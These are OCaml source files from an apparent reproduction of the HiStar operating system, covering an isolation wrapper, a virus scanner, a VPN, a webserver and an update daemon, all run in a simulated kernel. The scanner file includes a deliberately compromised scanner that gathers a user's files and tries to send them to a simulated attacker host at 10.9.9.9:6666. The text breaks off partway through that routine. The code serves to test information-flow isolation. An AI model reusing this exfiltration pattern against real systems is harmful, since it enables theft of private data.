        let gl = Label.of_list [ (lw, Level.Star) ] Level.L1 in
        let g =
          Sys.gate_create ~container:ct ~label:gl
            ~clearance:(Label.make Level.L2) ~quota:4096L ~name:"log append"
            (entry_fn log_cell)
        in
        gate_cell := Some (centry ct g);
        (* park forever; the process stays alive to own the log *)
        ignore (Sys.wait_alert ()))
  in
  { gate_cell; log_cell }

let append t ~return_container msg =
  let gate = gate t in
  Sys.tls_write (Proto.enc_string msg);
  Sys.gate_call ~gate
    ~label:(Sys.gate_floor gate)
    ~clearance:(Sys.self_clearance ()) ~return_container
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ()

let entries t =
  let log = await t.log_cell in
  let blob = Sys.segment_read log () in
  let d = Codec.Dec.of_string blob in
  let rec go acc =
    if Codec.Dec.at_end d then List.rev acc
    else go (Codec.Dec.str d :: acc)
  in
  go []
