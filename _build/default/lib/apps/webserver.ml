module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Label = Histar_label.Label
module Level = Histar_label.Level
open Histar_core.Types

type request = { req_user : string; req_password : string; req_path : string }
type response = Ok of string | Denied of string

type t = {
  demux : Process.t;
  dir : Histar_auth.Dird.t;
  handler : Process.t -> request -> response;
  served : int ref;
}

let start ~proc ~dir ~handler =
  (* The demultiplexer runs unprivileged: it owns no user categories and
     cannot read anyone's data itself. *)
  { demux = proc; dir; handler; served = ref (0 : int) }

let requests_served t = !(t.served)

(* The per-connection pipeline of §6.4: authenticate, then run the
   untrusted service code in a worker that holds only this user's
   categories. *)
let serve_one t req =
  incr t.served;
  (* Each connection gets its own container, which bounds the resources
     the demultiplexer grants the worker. *)
  let conn_ct =
    Sys.container_create
      ~container:(Process.container t.demux)
      ~label:(Label.make Level.L1) ~quota:1_048_576L
      ("conn for " ^ req.req_user)
  in
  let result = ref (Denied "worker did not run") in
  (* Authentication happens in a throwaway login process so that even
     the demultiplexer never gains the user's privileges. *)
  let login_h =
    Process.spawn t.demux ~name:("login:" ^ req.req_user) (fun login_proc ->
        match
          Histar_auth.Login.login ~proc:login_proc ~dir:t.dir
            ~username:req.req_user ~password:req.req_password
        with
        | Histar_auth.Login.Granted user ->
            (* now owning ur/uw, spawn the worker with exactly those *)
            let worker =
              Process.spawn login_proc
                ~name:("worker:" ^ req.req_user)
                ~user (fun worker_proc ->
                  result := t.handler worker_proc req;
                  Process.exit worker_proc 0)
            in
            ignore (Process.wait login_proc worker)
        | Histar_auth.Login.Bad_password ->
            result := Denied "bad password"
        | Histar_auth.Login.No_such_user -> result := Denied "no such user"
        | Histar_auth.Login.Setup_rejected ->
            result := Denied "authentication service refused")
  in
  ignore (Process.wait t.demux login_h);
  (try Sys.unref (centry (Process.container t.demux) conn_ct)
   with Kernel_error _ -> ());
  !result

(* A reference service: serve the user's own profile file. *)
let profile_handler worker_proc req =
  let fs = Process.fs worker_proc in
  match Fs.read_file fs req.req_path with
  | contents -> Ok contents
  | exception Kernel_error (Label_check m) -> Denied ("label check: " ^ m)
  | exception Kernel_error e -> Denied (error_to_string e)
  | exception Invalid_argument m -> Denied m
