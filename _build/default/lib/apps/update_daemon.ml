module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Label = Histar_label.Label
module Level = Histar_label.Level
open Histar_core.Types

type command = Apply of string | Snoop of string list

type t = {
  inbox : command Queue.t;
  wake_cell : centry option ref;
  applied : int ref;
  snoops : (string * bool) list ref;
}

let db_write_label ~dbw = Label.of_list [ (dbw, Level.L0) ] Level.L1

let rec await cell =
  match !cell with
  | Some v -> v
  | None ->
      Sys.yield ();
      await cell

let bump ce =
  let d = Histar_util.Codec.Dec.of_string (Sys.segment_read ce ~off:0 ~len:8 ()) in
  let v = Histar_util.Codec.Dec.i64 d in
  let e = Histar_util.Codec.Enc.create () in
  Histar_util.Codec.Enc.i64 e (Int64.add v 1L);
  Sys.segment_write ce (Histar_util.Codec.Enc.to_string e);
  ignore (Sys.futex_wake ce ~off:0 ~count:max_int)

let start ~proc ~dbw ~db_path ~netd ~vendor =
  let t =
    {
      inbox = Queue.create ();
      wake_cell = ref None;
      applied = ref 0;
      snoops = ref [];
    }
  in
  let _h =
    Process.spawn proc ~name:"update-daemon"
      ~extra_label:[ (dbw, Level.Star) ]
      ~extra_clearance:[ (dbw, Level.L3) ]
      (fun daemon ->
        let fs = Process.fs daemon in
        let wake =
          Sys.segment_create ~container:(Process.container daemon)
            ~label:(Label.make Level.L1) ~quota:8704L ~len:8 "updated wakeup"
        in
        let wake = centry (Process.container daemon) wake in
        t.wake_cell := Some wake;
        (* fetch one update from the vendor if we have a network *)
        (match netd with
        | None -> ()
        | Some nd -> (
            try
              let scratch = Process.internal daemon in
              let sock =
                Histar_net.Netd.Client.connect nd ~return_container:scratch
                  vendor
              in
              Histar_net.Netd.Client.send nd ~return_container:scratch sock
                "GET /virusdb";
              match
                Histar_net.Netd.Client.recv nd ~return_container:scratch sock
              with
              | Some db ->
                  Fs.write_file fs db_path db;
                  incr t.applied
              | None -> ()
            with Kernel_error _ | Histar_net.Netd.Client.Netd_error _ -> ()));
        (* then serve queued commands forever *)
        let rec serve () =
          (match Queue.take_opt t.inbox with
          | Some (Apply db) ->
              (try
                 Fs.write_file fs db_path db;
                 incr t.applied
               with Kernel_error _ -> ())
          | Some (Snoop paths) ->
              List.iter
                (fun p ->
                  let ok =
                    match Fs.read_file fs p with
                    | _ -> true
                    | exception Kernel_error _ -> false
                    | exception Invalid_argument _ -> false
                  in
                  t.snoops := (p, ok) :: !(t.snoops))
                paths
          | None -> ());
          (if Queue.is_empty t.inbox then
             let d =
               Histar_util.Codec.Dec.of_string
                 (Sys.segment_read wake ~off:0 ~len:8 ())
             in
             let gen = Histar_util.Codec.Dec.i64 d in
             if Queue.is_empty t.inbox then
               Sys.futex_wait wake ~off:0 ~expected:gen);
          serve ()
        in
        serve ())
  in
  t

let push_update t db =
  Queue.push (Apply db) t.inbox;
  bump (await t.wake_cell)

let try_snoop t paths =
  Queue.push (Snoop paths) t.inbox;
  bump (await t.wake_cell)

let updates_applied t = !(t.applied)
let snoop_attempts t = List.rev !(t.snoops)
