(** VPN isolation (§6.3, Figure 11).

    The machine is connected to two networks: the open internet (taint
    category [i]) and a corporate network reached through an encrypted
    tunnel (taint category [v]). Each network has its own lwIP stack
    (netd instance); only the VPN client — a small process owning both
    [i] and [v] — may move data between them, re-tainting as it
    encrypts/decrypts. The kernel then *guarantees* that internet data
    cannot reach the corporate side or vice versa except through the
    VPN client: a broad policy from one localized change.

    Topology built by {!setup}:
    - [inet_hub]: the simulated internet, with the VPN server host;
    - the kernel's internet device + netd, labeled [{i2, 1}];
    - a tunnel hub private to this machine, carrying the corp-side
      frames, with the kernel's VPN device + netd labeled [{v2, 1}];
    - the VPN client process (owner of [i] and [v]) relaying frames
      between the tunnel hub and a TCP connection to the VPN server,
      XOR-"encrypting" in between;
    - the VPN server host, bridging decrypted frames onto [corp_hub]. *)

type t

val setup :
  proc:Histar_unix.Process.t ->
  kernel:Histar_core.Kernel.t ->
  inet_hub:Histar_net.Hub.t ->
  corp_hub:Histar_net.Hub.t ->
  i:Histar_label.Category.t ->
  v:Histar_label.Category.t ->
  t
(** Build the whole topology. [i]/[v] must be owned by the caller. *)

val inet_netd : t -> Histar_net.Netd.t
val vpn_netd : t -> Histar_net.Netd.t
val frames_tunneled : t -> int
