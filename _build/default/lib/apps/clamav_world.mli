(** The full ClamAV scenario of Figures 1/2/4: user data, the shared
    /tmp, the virus database with its update daemon, the network with
    an attacker's drop box and the DB vendor — assembled so tests,
    examples and benchmarks can run honest and compromised components
    against the same world. *)

type t = {
  kernel : Histar_core.Kernel.t;
  proc : Histar_unix.Process.t;  (** init, owns bob's categories *)
  fs : Histar_unix.Fs.t;
  bob : Histar_unix.Process.user;
  dbw : Histar_label.Category.t;
  netd : Histar_net.Netd.t option;
  attacker : Histar_net.Sim_host.t option;
  updated : Update_daemon.t option;
}

val db_path : string
val user_files : (string * string) list
(** bob's private files and their contents (one contains a "virus"). *)

val signatures : (string * string) list

val build :
  kernel:Histar_core.Kernel.t ->
  ?network:bool ->
  ?update_daemon:bool ->
  unit ->
  (t -> unit) ->
  unit
(** Boot the world inside [kernel] and hand it to the continuation
    (which runs on the init thread); then the caller should run the
    kernel to completion. *)
