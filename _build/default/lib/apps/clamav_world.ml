module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Users = Histar_unix.Users
module Label = Histar_label.Label
module Level = Histar_label.Level
module Addr = Histar_net.Addr
module Hub = Histar_net.Hub
module Sim_host = Histar_net.Sim_host
module Netd = Histar_net.Netd

type t = {
  kernel : Kernel.t;
  proc : Process.t;
  fs : Fs.t;
  bob : Process.user;
  dbw : Histar_label.Category.t;
  netd : Netd.t option;
  attacker : Sim_host.t option;
  updated : Update_daemon.t option;
}

let db_path = "/var/db/virus.db"

let user_files =
  [
    ("/home/bob/taxes.txt", "bob-agi-123456 bank-account-987654");
    ("/home/bob/diary.txt", "dear diary, my password is hunter2");
    ("/home/bob/download.bin", "harmless bytes EICAR-TEST-SIGNATURE more bytes");
  ]

let signatures =
  [
    ("Eicar-Test", "EICAR-TEST-SIGNATURE");
    ("Trojan.Sim.A", "\x90\x90\xcc\xcc virusbody");
    ("Worm.Sim.B", "i-am-a-worm-replicate-me");
  ]

let build ~kernel ?(network = true) ?(update_daemon = true) () k =
  let clock = Kernel.clock kernel in
  let hub = if network then Some (Hub.create ~clock ()) else None in
  let attacker =
    Option.map
      (fun hub ->
        let a = Sim_host.create ~hub ~clock ~ip:"10.9.9.9" ~mac:"attacker" () in
        Sim_host.sink a ~port:6666;
        a)
      hub
  in
  let vendor =
    Option.map
      (fun hub ->
        let host = Sim_host.create ~hub ~clock ~ip:"10.7.7.7" ~mac:"vendor" () in
        Sim_host.serve_file host ~port:80
          ~content:(Scanner.make_database ~signatures);
        host)
      hub
  in
  ignore vendor;
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc =
          Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" ()
        in
        (* the world-shared /tmp with a pre-made dead-drop target *)
        ignore (Fs.mkdir fs "/tmp");
        Fs.write_file fs "/tmp/dead-drop" "";
        Fs.write_file fs "/tmp/flag" (String.make 8 '\000');
        (* bob and his private files *)
        let bob = Users.create_user ~fs ~name:"bob" in
        List.iter (fun (p, data) -> Fs.write_file fs p data) user_files;
        (* the virus database: world-readable, writable via dbw *)
        let dbw = Sys.cat_create () in
        ignore (Fs.mkdir fs "/var");
        ignore (Fs.mkdir fs "/var/db");
        ignore
          (Fs.create fs
             ~label:(Update_daemon.db_write_label ~dbw)
             ~quota:1_048_576L db_path);
        Fs.write_file fs db_path (Scanner.make_database ~signatures);
        (* networking *)
        let i = Sys.cat_create () in
        let netd =
          Option.map
            (fun hub ->
              Netd.start kernel ~hub ~container:(Kernel.root kernel)
                ~ip:(Addr.ip_of_string "10.0.0.1") ~mac:"km" ~taint:i ())
            hub
        in
        let updated =
          if update_daemon then
            Some
              (Update_daemon.start ~proc ~dbw ~db_path ~netd:None
                 ~vendor:(Addr.v "10.7.7.7" 80))
          else None
        in
        k { kernel; proc; fs; bob; dbw; netd; attacker; updated })
  in
  ()
