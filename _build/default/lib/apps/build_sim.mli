(** A synthetic "build the HiStar kernel" workload (§7.2, Figure 13):
    a make-like driver that fork/execs one compiler process per source
    file (each reads its source, does some work, writes an object
    file), then links. Exercises process creation, the file system and
    scheduling the way the paper's GNU-make benchmark does. *)

type stats = {
  files_compiled : int;
  bytes_written : int;
  syscalls : int;
}

val prepare : fs:Histar_unix.Fs.t -> files:int -> loc_per_file:int -> unit
(** Create /src with the given number of synthetic source files. *)

val run :
  proc:Histar_unix.Process.t ->
  files:int ->
  ?use_spawn:bool ->
  unit ->
  stats
(** Compile everything and link. [use_spawn] (default false) uses the
    efficient spawn path instead of fork/exec, as §7.1 contrasts. *)
