module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

type report = {
  verdicts : Scanner.verdict list;
  timed_out : bool;
  elapsed_ns : int64;
}

let ready_flag seg =
  let d = Codec.Dec.of_string (Sys.segment_read seg ~off:0 ~len:8 ()) in
  Codec.Dec.i64 d

let run ~proc ~user ~db_path ~paths ?(timeout_ms = 10_000)
    ?(scanner = Scanner.run) ?(spawn_helpers = false) () =
  let started_ns = Sys.clock_ns () in
  let ur = user.Process.ur in
  (* a fresh taint category isolating this scan *)
  let v = Sys.cat_create () in
  let tainted = Label.of_list [ (ur, Level.L3); (v, Level.L3) ] Level.L1 in
  (* the private /tmp: a container the tainted scanner can write *)
  Process.reserve proc 300_000_000L;
  let tmp_ct =
    Sys.container_create ~container:(Process.container proc) ~label:tainted
      ~quota:268_435_456L "wrap private tmp"
  in
  (* the verdict segment, writable by the scanner, readable by us *)
  let result_oid =
    Sys.segment_create ~container:tmp_ct ~label:tainted ~quota:65_536L ~len:8
      "scan results"
  in
  let result_seg = centry tmp_ct result_oid in
  (* launch the scanner tainted {ur3, v3} with NO untainting gates: it
     cannot even declassify its exit (§5.8 strong isolation) *)
  let taints = [ (ur, Level.L3); (v, Level.L3) ] in
  let _h =
    Process.spawn proc ~name:"av-scanner" ~extra_label:taints
      ~extra_clearance:taints ~untaint_exit:false ~in_container:tmp_ct
      (fun scanner_proc ->
        scanner ~proc:scanner_proc ~db_path ~paths ~result_seg ~spawn_helpers)
  in
  (* wait for results, bounded by the timeout (which also bounds how
     long a malicious scanner gets to modulate covert channels) *)
  let deadline =
    Int64.add started_ns (Int64.mul (Int64.of_int timeout_ms) 1_000_000L)
  in
  let rec await () =
    if not (Int64.equal (ready_flag result_seg) 0L) then `Done
    else if Int64.compare (Sys.clock_ns ()) deadline > 0 then `Timeout
    else begin
      Sys.usleep 1000;
      await ()
    end
  in
  let outcome = await () in
  let verdicts =
    match outcome with
    | `Timeout -> []
    | `Done ->
        (* we own ur and v: untaint the verdict by simply reading it *)
        Scanner.decode_verdicts (Sys.segment_read result_seg ~off:8 ~len:(-1) ())
  in
  (* kill the scanner and everything it ever allocated: one unref of
     the private tmp destroys the whole subtree *)
  (try Sys.unref (centry (Process.container proc) tmp_ct)
   with Kernel_error _ -> ());
  {
    verdicts;
    timed_out = (outcome = `Timeout);
    elapsed_ns = Int64.sub (Sys.clock_ns ()) started_ns;
  }
