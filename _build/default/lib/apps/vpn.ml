module Sys = Histar_core.Sys
module Kernel = Histar_core.Kernel
module Process = Histar_unix.Process
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
module Netd = Histar_net.Netd
module Hub = Histar_net.Hub
module Addr = Histar_net.Addr
open Histar_core.Types

type t = {
  inet_netd : Netd.t;
  vpn_netd : Netd.t;
  tunneled : int ref;
}

let inet_netd t = t.inet_netd
let vpn_netd t = t.vpn_netd
let frames_tunneled t = !(t.tunneled)

(* "Encryption": xor with a keystream byte plus length framing. The
   point is taint bookkeeping, not cryptography. *)
let crypt s = String.map (fun c -> Char.chr (Char.code c lxor 0x5a)) s

let frame_out buf s =
  let e = Codec.Enc.create () in
  Codec.Enc.str e (crypt s);
  Buffer.add_string buf (Codec.Enc.to_string e)

(* Incremental parse of length-prefixed frames from a stream buffer. *)
let drain_frames buf =
  let data = Buffer.contents buf in
  let d = Codec.Dec.of_string data in
  let rec go acc =
    if Codec.Dec.remaining d < 4 then (List.rev acc, Codec.Dec.pos d)
    else
      let saved = Codec.Dec.pos d in
      let len = Codec.Dec.u32 d in
      if Codec.Dec.remaining d < len then (List.rev acc, saved)
      else go (crypt (Codec.Dec.raw d len) :: acc)
  in
  let frames, consumed = go [] in
  let rest = String.sub data consumed (String.length data - consumed) in
  Buffer.clear buf;
  Buffer.add_string buf rest;
  frames

let vpn_server_ip = "10.0.0.100"
let vpn_port = 1194
let corp_gateway_ip = "192.168.1.50"

let setup ~proc ~kernel ~inet_hub ~corp_hub ~i ~v =
  let clock = Kernel.clock kernel in
  let tunneled = ref 0 in
  (* --- the internet-facing netd --- *)
  let inet_netd =
    Netd.start kernel ~hub:inet_hub ~container:(Kernel.root kernel)
      ~ip:(Addr.ip_of_string "10.0.0.1") ~mac:"km-inet" ~taint:i ()
  in
  (* --- the tunnel hub and the VPN-side netd --- *)
  let tunnel_hub = Hub.create ~clock ~latency_us:10.0 () in
  let vpn_netd =
    Netd.start kernel ~hub:tunnel_hub ~container:(Kernel.root kernel)
      ~ip:(Addr.ip_of_string corp_gateway_ip) ~mac:"km-vpn" ~taint:v ()
  in
  (* the tun endpoint: frames for unknown (corporate) IPs leave the
     tunnel hub here and are queued for the VPN client to encrypt *)
  let outbox : string Queue.t = Queue.create () in
  let outbox_notify = ref None in
  Hub.attach tunnel_hub
    {
      Hub.ep_mac = "tun0";
      ep_ip = Addr.ip_of_string "192.168.1.254";
      ep_deliver =
        (fun frame ->
          Queue.push frame outbox;
          match !outbox_notify with
          | Some ce -> Kernel.host_wake_futex kernel ce.object_id ~off:0
          | None -> ());
    };
  Hub.set_default_route tunnel_hub ~mac:"tun0";
  (* --- the VPN server: a simulated host on both outside networks --- *)
  let server = Histar_net.Sim_host.create ~hub:inet_hub ~clock ~ip:vpn_server_ip ~mac:"vpnsrv" () in
  let client_conn = ref None in
  let inet_rx = Buffer.create 256 in
  (* server side: decrypt tunneled frames and route them onto the
     corporate LAN, rewriting the link-layer addresses like any
     gateway *)
  let route_to_corp frame_bytes =
    match Histar_net.Packet.frame_of_bytes frame_bytes with
    | None -> ()
    | Some f -> (
        match Hub.resolve corp_hub f.Histar_net.Packet.ip.Histar_net.Packet.dst_ip with
        | None -> ()
        | Some dst_mac ->
            incr tunneled;
            Hub.inject corp_hub
              (Histar_net.Packet.frame_to_bytes
                 { f with Histar_net.Packet.dst_mac; src_mac = "km-vpn" }))
  in
  Histar_net.Sim_host.serve server ~port:vpn_port
    ~on_data:(fun c data ->
      client_conn := Some c;
      Buffer.add_string inet_rx data;
      List.iter route_to_corp (drain_frames inet_rx))
    ~on_eof:(fun c -> Histar_net.Stack.close c);
  (* corp-side: the gateway claims the kernel's corp IP/MAC, relaying
     corp frames back through the tunnel *)
  Hub.attach corp_hub
    {
      Hub.ep_mac = "km-vpn";
      ep_ip = Addr.ip_of_string corp_gateway_ip;
      ep_deliver =
        (fun frame ->
          match !client_conn with
          | Some c ->
              incr tunneled;
              let b = Buffer.create 64 in
              frame_out b frame;
              Histar_net.Stack.send c (Buffer.contents b)
          | None -> ());
    };
  (* --- the VPN client process: the only owner of both i and v --- *)
  let _h =
    Process.spawn proc ~name:"openvpn"
      ~extra_label:[ (i, Level.Star); (v, Level.Star) ]
      ~extra_clearance:[ (i, Level.L3); (v, Level.L3) ]
      (fun client ->
        let scratch = Process.internal client in
        let notify_seg =
          Sys.segment_create ~container:(Process.container client)
            ~label:(Label.make Level.L1) ~quota:8704L ~len:8 "tun notify"
        in
        let notify = centry (Process.container client) notify_seg in
        outbox_notify := Some notify;
        let sock =
          Netd.Client.connect inet_netd ~return_container:scratch
            (Addr.v vpn_server_ip vpn_port)
        in
        (* downlink thread: decrypt server->client frames onto the
           tunnel device *)
        let _down =
          Sys.thread_create ~container:(Process.container client)
            ~label:(Sys.self_label ())
            ~clearance:(Sys.self_clearance ())
            ~quota:262_144L ~name:"openvpn-down"
            (fun () ->
              let rx = Buffer.create 256 in
              let rec loop () =
                match Netd.Client.recv inet_netd ~return_container:scratch sock with
                | Some data ->
                    Buffer.add_string rx data;
                    List.iter
                      (fun frame ->
                        incr tunneled;
                        Kernel.deliver_packet kernel (Netd.device vpn_netd)
                          frame)
                      (drain_frames rx);
                    loop ()
                | None -> ()
              in
              loop ())
        in
        (* uplink loop: encrypt tunnel-hub frames up to the server *)
        let word () =
          let d =
            Codec.Dec.of_string (Sys.segment_read notify ~off:0 ~len:8 ())
          in
          Codec.Dec.i64 d
        in
        let rec uplink () =
          match Queue.take_opt outbox with
          | Some frame ->
              let b = Buffer.create 64 in
              frame_out b frame;
              incr tunneled;
              Netd.Client.send inet_netd ~return_container:scratch sock
                (Buffer.contents b);
              uplink ()
          | None ->
              let gen = word () in
              if Queue.is_empty outbox then
                Sys.futex_wait notify ~off:0 ~expected:gen;
              uplink ()
        in
        uplink ())
  in
  { inet_netd; vpn_netd; tunneled }
