module Process = Histar_unix.Process
module Fs = Histar_unix.Fs

type stats = { files_compiled : int; bytes_written : int; syscalls : int }

let src_path i = Printf.sprintf "/src/mod%03d.c" i
let obj_path i = Printf.sprintf "/src/mod%03d.o" i

let prepare ~fs ~files ~loc_per_file =
  if not (Fs.exists fs "/src") then ignore (Fs.mkdir fs "/src");
  if not (Fs.exists fs "/bin") then ignore (Fs.mkdir fs "/bin");
  if not (Fs.exists fs "/bin/cc") then Fs.write_file fs "/bin/cc" "#!cc";
  if not (Fs.exists fs "/bin/ld") then Fs.write_file fs "/bin/ld" "#!ld";
  for i = 0 to files - 1 do
    let body =
      String.concat "\n"
        (List.init loc_per_file (fun l ->
             Printf.sprintf "int fn_%d_%d(int x) { return x * %d + %d; }" i l l
               (i + l)))
    in
    Fs.write_file fs (src_path i) body
  done

(* a toy "compiler": checksum every line into the object file *)
let compile fs i =
  let src = Fs.read_file fs (src_path i) in
  let lines = String.split_on_char '\n' src in
  let buf = Buffer.create 256 in
  List.iter
    (fun line ->
      Buffer.add_string buf
        (Printf.sprintf "%Lx\n" (Histar_util.Checksum.fnv64 line)))
    lines;
  Fs.write_file fs (obj_path i) (Buffer.contents buf);
  Buffer.length buf

let run ~proc ~files ?(use_spawn = false) () =
  let written = ref 0 in
  let launch name f =
    if use_spawn then Process.spawn proc ~name f
    else Process.fork_exec proc ~name ~text:"/bin/cc" f
  in
  (* make-style: compile sequentially, like make without -j *)
  for i = 0 to files - 1 do
    let h =
      launch
        (Printf.sprintf "cc mod%03d" i)
        (fun cc -> written := !written + compile (Process.fs cc) i)
    in
    ignore (Process.wait proc h)
  done;
  (* link *)
  let h =
    launch "ld kernel" (fun ld ->
        let fs = Process.fs ld in
        let buf = Buffer.create 1024 in
        for i = 0 to files - 1 do
          Buffer.add_string buf (Fs.read_file fs (obj_path i))
        done;
        Fs.write_file fs "/src/kernel.img" (Buffer.contents buf);
        written := !written + Buffer.length buf)
  in
  ignore (Process.wait proc h);
  {
    files_compiled = files;
    bytes_written = !written;
    syscalls = 0 (* filled by callers from the kernel profile *);
  }
