(** wrap — the paper's 110-line trusted isolation wrapper (§2.1, §6.1).

    wrap is invoked with the user's privileges (ownership of the
    category protecting their files). It allocates a fresh taint
    category [v], creates a private tainted /tmp, launches the virus
    scanner tainted [{ur3, v3}] inside it with **no** untainting gates,
    waits for the verdicts (bounded by a timeout that also bounds the
    covert-channel budget), untaints the one-line result, and reports
    it to the terminal. If the scanner oversteps the deadline it is
    killed and its container — everything it ever allocated — is
    destroyed.

    So long as wrap is correct, nothing the scanner (or any helper it
    spawns) does can leak the contents of the scanned files. *)

type report = {
  verdicts : Scanner.verdict list;
  timed_out : bool;
  elapsed_ns : int64;
}

val run :
  proc:Histar_unix.Process.t ->
  user:Histar_unix.Process.user ->
  db_path:string ->
  paths:string list ->
  ?timeout_ms:int ->
  ?scanner:
    (proc:Histar_unix.Process.t ->
    db_path:string ->
    paths:string list ->
    result_seg:Histar_core.Types.centry ->
    spawn_helpers:bool ->
    unit) ->
  ?spawn_helpers:bool ->
  unit ->
  report
(** Run a scan under isolation. [scanner] defaults to {!Scanner.run};
    tests substitute compromised variants. The caller's thread must own
    the user's categories. *)
