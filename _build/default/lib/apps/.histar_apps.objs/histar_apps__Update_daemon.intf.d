lib/apps/update_daemon.mli: Histar_label Histar_net Histar_unix
