lib/apps/webserver.mli: Histar_auth Histar_unix
