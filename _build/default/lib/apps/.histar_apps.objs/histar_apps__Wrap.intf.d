lib/apps/wrap.mli: Histar_core Histar_unix Scanner
