lib/apps/build_sim.mli: Histar_unix
