lib/apps/update_daemon.ml: Histar_core Histar_label Histar_net Histar_unix Histar_util Int64 List Queue
