lib/apps/clamav_world.ml: Histar_core Histar_label Histar_net Histar_unix List Option Scanner String Update_daemon
