lib/apps/build_sim.ml: Buffer Histar_unix Histar_util List Printf String
