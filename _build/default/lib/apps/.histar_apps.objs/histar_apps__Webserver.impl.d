lib/apps/webserver.ml: Histar_auth Histar_core Histar_label Histar_unix
