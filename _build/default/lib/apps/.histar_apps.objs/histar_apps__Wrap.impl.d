lib/apps/wrap.ml: Histar_core Histar_label Histar_unix Histar_util Int64 Scanner
