lib/apps/scanner.mli: Histar_core Histar_net Histar_unix
