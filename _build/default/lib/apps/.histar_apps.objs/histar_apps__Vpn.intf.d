lib/apps/vpn.mli: Histar_core Histar_label Histar_net Histar_unix
