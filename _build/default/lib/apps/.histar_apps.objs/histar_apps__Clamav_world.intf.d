lib/apps/clamav_world.mli: Histar_core Histar_label Histar_net Histar_unix Update_daemon
