lib/apps/scanner.ml: Histar_core Histar_label Histar_net Histar_unix Histar_util Int64 List Option String
