lib/apps/vpn.ml: Buffer Char Histar_core Histar_label Histar_net Histar_unix Histar_util List Queue String
