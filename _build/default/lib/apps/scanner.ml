module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

type verdict = { path : string; infected : bool; matched : string option }

(* ---------- signature database ---------- *)

let make_database ~signatures =
  let e = Codec.Enc.create () in
  Codec.Enc.list e
    (fun e (name, pattern) ->
      Codec.Enc.str e name;
      Codec.Enc.str e pattern)
    signatures;
  Codec.Enc.to_string e

let parse_database s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.list d (fun d ->
      let name = Codec.Dec.str d in
      let pattern = Codec.Dec.str d in
      (name, pattern))

let contains_sub s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m > 0 && go 0

let scan_bytes ~db bytes =
  List.find_map
    (fun (name, pattern) -> if contains_sub bytes pattern then Some name else None)
    db

(* ClamAV's CPU cost, calibrated from the paper: 100 MB in 18.7 s is
   about 0.187 µs per byte. Charged as virtual time so the Figure 13
   rows are reproducible. *)
let charge_scan_cpu bytes =
  Histar_core.Sys.usleep (String.length bytes * 187 / 1000)

(* ---------- verdict wire format ---------- *)

let encode_verdicts vs =
  let e = Codec.Enc.create () in
  Codec.Enc.list e
    (fun e v ->
      Codec.Enc.str e v.path;
      Codec.Enc.bool e v.infected;
      Codec.Enc.option e Codec.Enc.str v.matched)
    vs;
  Codec.Enc.to_string e

let decode_verdicts s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.list d (fun d ->
      let path = Codec.Dec.str d in
      let infected = Codec.Dec.bool d in
      let matched = Codec.Dec.option d Codec.Dec.str in
      { path; infected; matched })

(* result segment: [0..8) ready flag, [8..) verdicts *)
let publish_results result_seg vs =
  let blob = encode_verdicts vs in
  Sys.segment_resize result_seg (8 + String.length blob);
  Sys.segment_write result_seg ~off:8 blob;
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e 1L;
  Sys.segment_write result_seg ~off:0 (Codec.Enc.to_string e);
  ignore (Sys.futex_wake result_seg ~off:0 ~count:max_int)

(* ---------- the honest scanner ---------- *)

(* Scan one file in a helper child — the "wide variety of external
   helper programs" of §1; the helper inherits the scanner's taint
   automatically because a tainted thread cannot lower its children's
   labels. *)
let scan_one proc ~db ~spawn_helpers path =
  let fs = Process.fs proc in
  let bytes = try Fs.read_file fs path with _ -> "" in
  charge_scan_cpu bytes;
  if not spawn_helpers then scan_bytes ~db bytes
  else begin
    let verdict = ref None in
    let self = Sys.self_label () in
    let taint_extra =
      (* propagate our own taint explicitly to the helper *)
      Label.entries self
      |> List.filter (fun (_, lv) ->
             match lv with Level.L2 | Level.L3 -> true | _ -> false)
    in
    match
      Process.spawn proc ~name:("av-helper:" ^ path) ~extra_label:taint_extra
        ~extra_clearance:taint_extra ~untaint_exit:false (fun _helper ->
          verdict := Some (scan_bytes ~db bytes))
    with
    | h ->
        (* helpers share our containers; wait by polling the ref since a
           fully tainted helper cannot publish an exit status *)
        let tries = ref 0 in
        while !verdict = None && !tries < 100_000 do
          incr tries;
          Sys.yield ()
        done;
        ignore h;
        Option.join !verdict
    | exception Kernel_error _ -> scan_bytes ~db bytes
  end

let run ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
  let fs = Process.fs proc in
  let db = parse_database (Fs.read_file fs db_path) in
  let verdicts =
    List.map
      (fun path ->
        match scan_one proc ~db ~spawn_helpers path with
        | Some name -> { path; infected = true; matched = Some name }
        | None -> { path; infected = false; matched = None })
      paths
  in
  publish_results result_seg verdicts

(* ---------- the compromised scanner ---------- *)

type leak_attempt = { channel : string; succeeded : bool }

let attempt report channel f =
  let succeeded = match f () with () -> true | exception _ -> false in
  report { channel; succeeded }

let run_evil ~proc ~paths ~attacker_netd ~result_seg ~report =
  let fs = Process.fs proc in
  (* steal whatever we can read (we are tainted, so this is permitted) *)
  let loot =
    String.concat "|"
      (List.map (fun p -> try Fs.read_file fs p with _ -> "?") paths)
  in
  (* 1. direct TCP connection to the attacker's drop box *)
  attempt report "direct-tcp" (fun () ->
      match attacker_netd with
      | None -> failwith "no network"
      | Some netd ->
          let sock =
            Histar_net.Netd.Client.connect netd
              ~return_container:(Process.internal proc)
              (Histar_net.Addr.v "10.9.9.9" 6666)
          in
          Histar_net.Netd.Client.send netd
